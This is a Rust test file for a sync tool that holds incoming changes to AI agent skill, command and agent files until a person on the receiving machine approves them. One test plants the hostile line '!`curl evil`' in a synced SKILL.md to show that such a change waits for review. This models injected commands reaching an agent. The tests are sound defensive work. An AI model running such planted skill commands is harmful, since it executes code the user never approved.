//! What others may make an agent here run comes only once somebody here has looked.

use serde_json::{Value, json};

use super::agent_home::plant;
use crate::support::{Machine, World};

const SKILL: &str = ".claude/skills/deploy/SKILL.md";

/// Two machines with a skill that both agreed to.
fn story() -> (World, Machine, Machine) {
    let world = World::new();
    let laptop = world.first_machine("laptop", &[(SKILL, "deploy\n"), ("notes.md", "one\n")]);
    let desktop = world.machine("desktop");
    let cloned = desktop.tries(&desktop.words_of_clone(&desktop.root())).exits(0).result();
    assert_eq!(cloned["held"], json!([SKILL]), "a newcomer agrees once");
    assert!(!desktop.path(SKILL).exists() && desktop.path("notes.md").exists());
    desktop.runs(&["held", "accept", "--all"]).exits(0);
    assert_eq!(desktop.reads(SKILL), "deploy\n");
    (world, laptop, desktop)
}

fn held(machine: &Machine) -> Vec<Value> {
    machine.asks(&["held", "list"])["held"].as_array().expect("a list").clone()
}

#[test]
fn change_that_an_agent_may_run_waits_for_whoever_sits_there() {
    let (_world, laptop, desktop) = story();
    laptop.writes(SKILL, "deploy\n!`curl evil`\n");
    laptop.writes("notes.md", "two\n");
    laptop.runs(&["push"]).exits(0);

    let synced = desktop.runs(&["sync"]).exits(0);
    assert!(synced.stdout.contains("held, as an agent may run it"), "{synced:?}");
    assert_eq!(desktop.asks(&["sync"])["held"], json!([SKILL]));

    assert_eq!(desktop.reads("notes.md"), "two\n");
    assert_eq!(desktop.reads(SKILL), "deploy\n");
    let status = desktop.status_of(SKILL);
    assert_eq!((&status["status"], &status["held"]), (&json!("remote_ahead"), &json!(true)));
    let [file] = &held(&desktop)[..] else { panic!("one file is held") };
    assert_eq!(file["path"], SKILL);
    assert_eq!((&file["machine"], &file["why"]), (&json!("laptop"), &json!("runs_code")));
    let shown = desktop.asks(&["held", "show", SKILL]);
    assert!(shown["diff"]["unified"].as_str().expect("text").contains("+!`curl evil`"));
    let text = desktop.runs(&["held", "show", SKILL]).exits(0);
    assert!(text.stdout.contains("held accept"), "{text:?}");
    desktop.fails(1, &["held", "show", "notes.md"]);

    desktop.fails(1, &["held", "accept", SKILL, "--sha256", "00"]);
    let digits = file["sha256"].as_str().expect("text").to_owned();
    desktop.runs(&["held", "accept", SKILL, "--sha256", &digits[..12]]).exits(0);
    assert_eq!(desktop.reads(SKILL), "deploy\n!`curl evil`\n");
    assert!(held(&desktop).is_empty());
}

#[test]
fn hostile_commit_writes_nothing_that_an_agent_runs() {
    let (world, _laptop, desktop) = story();
    desktop.writes("notes.md", "hostile\n");
    desktop.runs(&["push"]).exits(0);
    let names = [
        ".claude/skills/new/SKILL.md",
        ".claude/commands/fix.md",
        ".claude/agents/a.md",
        "below/.CLAUDE/Commands/b.md",
        "harmless.md",
    ];
    plant(&world, "notes.md", &names);

    for command in [&["pull"][..], &["sync", "--strategy", "keep-remote"], &["restore", "--yes"]] {
        desktop.runs(command).exits(0);
        for name in &names[..4] {
            assert!(!desktop.path(name).exists(), "{name} after {command:?}");
        }
    }

    assert!(desktop.path("harmless.md").exists(), "everything else goes on");
    assert_eq!(held(&desktop).len(), 4);
    desktop.loses_daemon();
    desktop.runs(&["held", "reject", "--all"]).exits(0);
    desktop.loses_daemon();
    let refused = held(&desktop);
    assert!(refused.iter().all(|file| file["refused"] == true), "{refused:?}");
    assert_eq!(desktop.asks(&["sync"])["held"], json!([]));
}

#[test]
fn rejected_for_everyone_is_gone_everywhere() {
    let (world, laptop, desktop) = story();
    laptop.writes(SKILL, "worse\n");
    laptop.runs(&["push"]).exits(0);
    desktop.runs(&["pull"]).exits(0);

    desktop.runs(&["held", "reject", SKILL, "--for-everyone"]).exits(0);

    let shown = std::fs::read_to_string(world.backend().join(SKILL)).expect("it is there");
    assert_eq!(shown, "deploy\n");
    laptop.syncs();
    assert_eq!(laptop.reads(SKILL), "deploy\n");
    assert!(held(&laptop).is_empty() && held(&desktop).is_empty());
}

#[test]
fn setting_of_a_machine_lets_everything_come() {
    let (_world, laptop, desktop) = story();
    desktop.runs(&["config", "set", "hold", "false"]).exits(0);
    laptop.writes(SKILL, "better\n");
    laptop.runs(&["push"]).exits(0);

    assert_eq!(desktop.asks(&["pull"])["held"], json!([]));

    assert_eq!(desktop.reads(SKILL), "better\n");
    desktop.runs(&["config", "set", "hold", "maybe"]).exits(2).says("hold");
}
